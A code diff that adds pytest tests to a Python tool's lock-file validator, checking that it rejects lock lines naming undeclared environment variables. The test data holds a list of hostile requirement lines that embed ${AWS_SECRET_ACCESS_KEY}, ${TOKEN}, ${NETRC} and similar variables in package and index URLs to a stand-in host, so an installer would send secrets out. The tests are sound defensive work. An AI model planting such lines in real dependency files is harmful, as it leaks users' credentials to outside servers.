@@ -1,7 +1,19 @@
-"""The content of the lock file, to the byte."""
+"""The content of the lock file, to the byte, and of the files next to it."""
 
+import json
+
+import pytest
+
+from smspec.lock.environment_locking import hashed_requirements
 from smspec.lock.locking import lock_text, locked
+from smspec.lock.resolution import ResolvedFile
 from smspec.spec.lock import Lock
+from support.locked_packages import lock_packages
+from support.small_job import BUILT, write_job
+from support.smspec_command import smspec
+
+HASH = f" \\\\\n    --hash=sha256:{'c' * 64}\n"
+BASE = "python:3.12-slim-bookworm"
 
 
 def test_lock_has_one_entry_a_line_in_order():
@@ -21,3 +33,53 @@ def test_lock_has_one_entry_a_line_in_order():
         "  }\n",
         "}\n",
     ]
+
+
+def validated(directory, content, requirements):
+    """Return the errors of a job whose packages are locked with this content."""
+    image = f'{{base: "{BASE}", python_requirements: requirements.txt, secrets: {{TOKEN: {{env: TOKEN}}}}}}'
+    spec = BUILT.replace(f'{{base: "{BASE}"}}', image).replace("{epochs: 2}", "{}")
+    (directory / "requirements.txt").write_text(requirements)
+    spec = write_job(directory, spec, **{"src/train.py": "import numpy\n"})
+    lock_packages(spec, content=content.encode())
+    errors = json.loads(smspec("validate", "--format", "json").out)
+    return [each["message"] for each in errors if each["severity"] == "error"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"yev @ http://h/${{AWS_SECRET_ACCESS_KEY}}/yev-1.0-py3-none-any.whl{HASH}",
+        f"yev @ http://h/${{TOKEN}}/yev-1.0-py3-none-any.whl{HASH}",  # of the author, for the index alone
+        f"yev @ http://${{TOKEN}}@h/yev-1.0-py3-none-any.whl{HASH}",
+        f"${{TOKEN}}{HASH}",
+        f"yev=={'${'}A}}{HASH}",
+        "--extra-index-url http://h/${AWS_SECRET_ACCESS_KEY}/\n",
+        "--index-url=http://h/${PIP_INDEX_URL}\n",
+        "-i http://${TOKEN}:${HOME}@h/\n",
+        "--find-links http://h/$\\\n{AWS_SECRET_ACCESS_KEY}/\n",
+        "--find-links http://h/ ${NETRC}\n",
+        "  -f http://h/${AWS_PROFILE}\n",
+        "--trusted-host ${A}${TOKEN}\n",
+        f"yev @ http://h/${{TOKEN}}$x/yev-1.0-py3-none-any.whl{HASH}",
+        "--index-url http://h/${${TOKEN}}\n",
+        "# a comment \\\n${AWS_SECRET_ACCESS_KEY}\n",
+    ],
+)
+def test_lock_names_no_variable_that_its_author_does_not(tmp_path, monkeypatch, line):
+    """An installer would replace it by a secret, and send it to a stranger."""
+    monkeypatch.chdir(tmp_path)
+    (found,) = validated(tmp_path, f"numpy==2.1.0{HASH}{line}", "--index-url http://${TOKEN}@h/\nnumpy\n")
+    assert "names a variable in line" in found
+
+
+@pytest.mark.parametrize("option", ["--index-url https://${TOKEN}@h/", "--find-links https://u:${TOKEN}@h/a", ""])
+def test_lock_keeps_options_of_its_author(tmp_path, monkeypatch, option):
+    monkeypatch.chdir(tmp_path)
+    assert validated(tmp_path, f"{option}\nnumpy==2.1.0{HASH}", f"{option}\nnumpy\n") == []
+
+
+def test_url_of_a_file_is_never_expanded():
+    """`%24` is `$` for a server, and nothing for an installer."""
+    file = ResolvedFile(name="yev", version="1", url="http://h/${A}/$b/yev-1.whl", sha256="c" * 64, is_direct=True)
+    assert "yev @ http://h/%24{A}/%24b/yev-1.whl " in hashed_requirements([file], [], base="b", python="3.12")
